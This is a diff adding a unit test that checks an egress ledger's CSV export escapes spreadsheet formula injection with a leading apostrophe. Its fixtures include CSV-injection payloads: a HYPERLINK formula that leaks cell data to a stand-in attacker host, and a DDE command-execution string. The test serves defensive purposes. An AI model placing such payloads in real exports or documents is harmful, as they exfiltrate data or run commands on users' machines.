@@ -71,4 +71,29 @@ describe('egress ledger', () => {
     expect(JSON.parse(rows[0]!.payload).messages[0].content).toBe(tricky);
     expect(JSON.parse(rows[0]!.entityCounts)).toEqual({ PERSON: 1 });
   });
+
+  it('exports CSV cells that a spreadsheet would run as formulas as text, with a leading apostrophe', () => {
+    const book = ledger();
+    const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTAB', '\r=CR'];
+    for (const [i, formula] of formulas.entries()) {
+      const id = book.record({ ...entry('openai', `message ${i}`), model: formula }).id;
+      book.finish(id, { status: 'failed', error: formula });
+    }
+    const safe = book.record({ ...entry('openai', '=SUM(A1) inside the payload'), model: 'gpt-4o-mini' }).id;
+    book.finish(safe, { status: 'completed', promptTokens: 1, completionTokens: 1, costUsd: 0.5 });
+
+    const rows = parse(book.export('csv').content, { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(formulas.length + 1);
+    const byModel = new Map(rows.map((row) => [row.model!, row]));
+    for (const formula of formulas) {
+      const row = byModel.get(`'${formula}`);
+      expect(row, formula).toBeDefined();
+      expect(row!.error).toBe(`'${formula}`);
+    }
+    // Everything else is exact: the JSON payload (starts with {), plain names and numbers.
+    const plain = byModel.get('gpt-4o-mini')!;
+    expect(JSON.parse(plain.payload!).messages[0].content).toBe('=SUM(A1) inside the payload');
+    expect(plain).toMatchObject({ provider: 'openai', costUsd: '0.5', promptTokens: '1' });
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
